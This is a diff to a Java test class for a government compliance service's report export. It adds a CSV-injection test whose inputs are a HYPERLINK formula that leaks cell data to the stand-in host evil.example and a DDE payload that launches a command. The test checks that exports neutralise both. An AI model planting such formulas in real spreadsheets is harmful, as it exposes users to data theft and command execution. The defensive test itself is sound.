@@ -8,9 +8,13 @@ import java.io.ByteArrayInputStream;
 import java.nio.charset.StandardCharsets;
 import java.util.ArrayList;
 import java.util.Arrays;
+import java.time.Duration;
+import java.time.Instant;
 import java.util.List;
+import java.util.UUID;
 
 import org.apache.http.HttpStatus;
+import org.apache.poi.ss.usermodel.CellType;
 import org.apache.poi.ss.usermodel.DataFormatter;
 import org.apache.poi.ss.usermodel.Row;
 import org.apache.poi.ss.usermodel.Sheet;
@@ -23,6 +27,8 @@ import com.lowagie.text.pdf.parser.PdfTextExtractor;
 
 import io.quarkus.test.junit.QuarkusTest;
 import io.smallrye.reactive.messaging.kafka.companion.KafkaCompanion;
+import vn.gov.directive.events.Recipient;
+import vn.gov.directive.events.Role;
 import vn.gov.directive.testsupport.InjectKafkaCompanion;
 import vn.gov.directive.testsupport.InjectKeycloak;
 import vn.gov.directive.testsupport.KeycloakTokens;
@@ -43,9 +49,13 @@ class ExportTests {
     }
 
     private byte[] export(String format, String contentType) {
+        return export(Scenario.DIRECTIVE, format, contentType);
+    }
+
+    private byte[] export(UUID directive, String format, String contentType) {
         return given().auth().oauth2(keycloak.accessToken("stttt"))
                 .queryParam("format", format)
-                .when().get("/api/v1/compliance/" + Scenario.DIRECTIVE + "/export")
+                .when().get("/api/v1/compliance/" + directive + "/export")
                 .then().statusCode(HttpStatus.SC_OK)
                 .contentType(containsString(contentType))
                 .header("Content-Disposition", containsString("bao-cao-tong-hop-"))
@@ -97,6 +107,38 @@ class ExportTests {
             assertThat(totals).isNotNull();
             assertThat(totals.getCell(soTin).getNumericCellValue()).isEqualTo(19.0);
             assertThat(totals.getCell(soBai).getNumericCellValue()).isEqualTo(5.5);
+        }
+    }
+
+    /** OWASP CSV injection: a subject and a unit name that a spreadsheet would run as formulas. */
+    @Test
+    void formulasInTextAreNeutralisedInCsvAndPlainStringsInXlsx() throws Exception {
+        String subject = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Xem\")";
+        String unit = TestEvents.freshCode("CONGTHUC");
+        UUID directive = UUID.randomUUID();
+        TestEvents events = new TestEvents();
+        events.unit(unit, "@SUM(1+1)*cmd|' /C calc'!A0", "DISTRICT_PC");
+        Instant issuedAt = Instant.now().minus(Duration.ofHours(1));
+        events.created(UUID.randomUUID(), directive, unit, Role.ACTION, null, "9/STTTT-VP", subject, issuedAt);
+        events.issued(directive, Scenario.ISSUER, "9/STTTT-VP", subject, issuedAt, null, List.of(new Recipient(unit, Role.ACTION)));
+        events.publish(kafka);
+        String token = keycloak.accessToken("stttt");
+        org.awaitility.Awaitility.await().atMost(Duration.ofSeconds(60)).until(() -> given().auth().oauth2(token)
+                .when().get("/api/v1/compliance/" + directive).then().extract().statusCode() == HttpStatus.SC_OK
+                && given().auth().oauth2(token).when().get("/api/v1/compliance/" + directive).then().extract()
+                        .jsonPath().getInt("delivered") == 1
+                && given().auth().oauth2(token).when().get("/api/v1/compliance/" + directive).then().extract()
+                        .jsonPath().getString("units[0].unitName") != null);
+
+        String csv = new String(export(directive, "csv", "text/csv"), StandardCharsets.UTF_8);
+        assertThat(csv).contains("Trích yếu,\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"Xem\"\")\"")
+                .contains(",\"'@SUM(1+1)*cmd|' /C calc'!A0\"").doesNotContain(",=HYPERLINK").doesNotContain(",@SUM");
+
+        try (XSSFWorkbook workbook = new XSSFWorkbook(new ByteArrayInputStream(export(directive, "xlsx", "spreadsheetml")))) {
+            Sheet sheet = workbook.getSheetAt(0);
+            assertThat(sheet.getRow(2).getCell(1).getCellType()).isEqualTo(CellType.STRING);
+            assertThat(sheet.getRow(2).getCell(1).getStringCellValue()).isEqualTo(subject);
+            sheet.forEach(row -> row.forEach(cell -> assertThat(cell.getCellType()).isNotEqualTo(CellType.FORMULA)));
         }
     }
 
